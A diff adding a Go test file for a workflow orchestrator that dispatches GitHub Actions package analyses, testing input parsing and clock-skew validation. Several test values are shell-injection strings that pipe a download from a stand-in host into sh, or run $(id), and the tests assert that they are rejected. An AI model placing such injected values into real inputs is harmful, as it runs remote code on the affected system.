@@ -0,0 +1,118 @@
+package orchestrator
+
+import (
+	"encoding/base64"
+	"encoding/json"
+	"io"
+	"net/http"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/acheong08/hackeurope-spr/pkg/models"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestParseWorkflowInputs(t *testing.T) {
+	inputs, err := ParseWorkflowInputs(" node_version=20, trace_seconds = 120,,")
+	require.NoError(t, err)
+	assert.Equal(t, map[string]string{"node_version": "20", "trace_seconds": "120"}, inputs)
+
+	_, err = ParseWorkflowInputs("node_version")
+	assert.Error(t, err)
+	_, err = ParseWorkflowInputs("package=lodash")
+	assert.ErrorContains(t, err, "set by spr")
+}
+
+func TestParseDispatchInputs(t *testing.T) {
+	inputs, err := parseDispatchInputs([]byte(`
+name: Analyze
+on:
+  push:
+  workflow_dispatch:
+    inputs:
+      package:
+        type: string
+      node_version:
+        default: '20'
+`))
+	require.NoError(t, err)
+	assert.Equal(t, map[string]bool{"package": true, "node_version": true}, inputs)
+
+	inputs, err = parseDispatchInputs([]byte("on: workflow_dispatch\n"))
+	require.NoError(t, err)
+	assert.Empty(t, inputs)
+}
+
+func TestValidateWorkflowInputs(t *testing.T) {
+	workflow := "on:\n  workflow_dispatch:\n    inputs:\n      package: {}\n      node_version: {}\n"
+	o := NewOrchestrator("token", "owner", "repo", "analyze.yml", 1, time.Minute, nil, "", "", nil, nil)
+	o.client.HTTPClient = &http.Client{Transport: roundTripFunc(func(r *http.Request) (*http.Response, error) {
+		var body any
+		switch r.URL.Path {
+		case "/repos/owner/repo/actions/workflows/analyze.yml":
+			body = map[string]string{"path": ".github/workflows/analyze.yml"}
+		case "/repos/owner/repo/contents/.github/workflows/analyze.yml":
+			body = map[string]string{"content": base64.StdEncoding.EncodeToString([]byte(workflow))}
+		default:
+			t.Fatalf("unexpected request %s", r.URL)
+		}
+		data, _ := json.Marshal(body)
+		return &http.Response{StatusCode: http.StatusOK, Header: http.Header{}, Body: io.NopCloser(strings.NewReader(string(data)))}, nil
+	})}
+
+	require.NoError(t, o.validateWorkflowInputs(t.Context()), "nothing to validate")
+
+	o.SetWorkflowInputs(map[string]string{"node_version": "20"})
+	require.NoError(t, o.validateWorkflowInputs(t.Context()))
+
+	o.SetWorkflowInputs(map[string]string{"node_version": "20", "trace_seconds": "120"})
+	err := o.validateWorkflowInputs(t.Context())
+	assert.ErrorContains(t, err, "doesn't declare inputs trace_seconds (declared: node_version, package)")
+
+	// Workflows without a seed input run unseeded
+	o.SetWorkflowInputs(nil)
+	o.SetSeed(42)
+	require.NoError(t, o.validateWorkflowInputs(t.Context()))
+	assert.False(t, o.seedInput)
+	workflow = "on:\n  workflow_dispatch:\n    inputs:\n      package: {}\n      seed: {}\n"
+	require.NoError(t, o.validateWorkflowInputs(t.Context()))
+	assert.True(t, o.seedInput)
+}
+
+func TestValidateObservation(t *testing.T) {
+	for _, skew := range []string{"+30d x10", "+30d", "-2h", "+0 x2", "+1.5y i2", "@2030-01-01 00:00:00", "@2030-01-01 00:00:00 x5"} {
+		assert.NoError(t, ValidateObservation(10, skew), skew)
+	}
+	for _, skew := range []string{"+30d'; curl evil.example | sh; '", "$(id)", "+30d x10 ", "30d", "x10", "+30d\nx10", "@2030-01-01"} {
+		assert.Error(t, ValidateObservation(10, skew), skew)
+	}
+	assert.NoError(t, ValidateObservation(10, ""), "the workflow's default applies")
+	assert.NoError(t, ValidateObservation(0, "$(id)"), "not dispatched without observation")
+	assert.Error(t, ValidateObservation(-1, "+30d"))
+	assert.Error(t, ValidateObservation(MaxObserveMinutes+1, "+30d"))
+}
+
+func TestPackageInputsObservation(t *testing.T) {
+	o := NewOrchestrator("token", "owner", "repo", "analyze.yml", 1, time.Minute, nil, "", "", nil, nil)
+	inputs := o.packageInputs(models.Package{Name: "pkg", Version: "1.0.0"})
+	assert.NotContains(t, inputs, "observe_minutes")
+	assert.NotContains(t, inputs, "clock_skew")
+
+	o.SetObservation(30, "+30d x10")
+	inputs = o.packageInputs(models.Package{Name: "pkg", Version: "1.0.0"})
+	assert.Equal(t, "30", inputs["observe_minutes"])
+	assert.Equal(t, "+30d x10", inputs["clock_skew"])
+}
+
+func TestRunPackagesRejectsClockSkew(t *testing.T) {
+	o := NewOrchestrator("token", "owner", "repo", "analyze.yml", 1, time.Minute, nil, "", "", nil, nil)
+	o.client.HTTPClient = &http.Client{Transport: roundTripFunc(func(r *http.Request) (*http.Response, error) {
+		t.Errorf("unexpected request to %s", r.URL)
+		return nil, io.EOF
+	})}
+	o.SetObservation(10, "+1d' && curl evil.example | sh #")
+	_, err := o.RunPackages(t.Context(), []models.Package{{Name: "pkg", Version: "1.0.0"}}, t.TempDir(), t.TempDir())
+	assert.ErrorContains(t, err, "invalid clock skew")
+}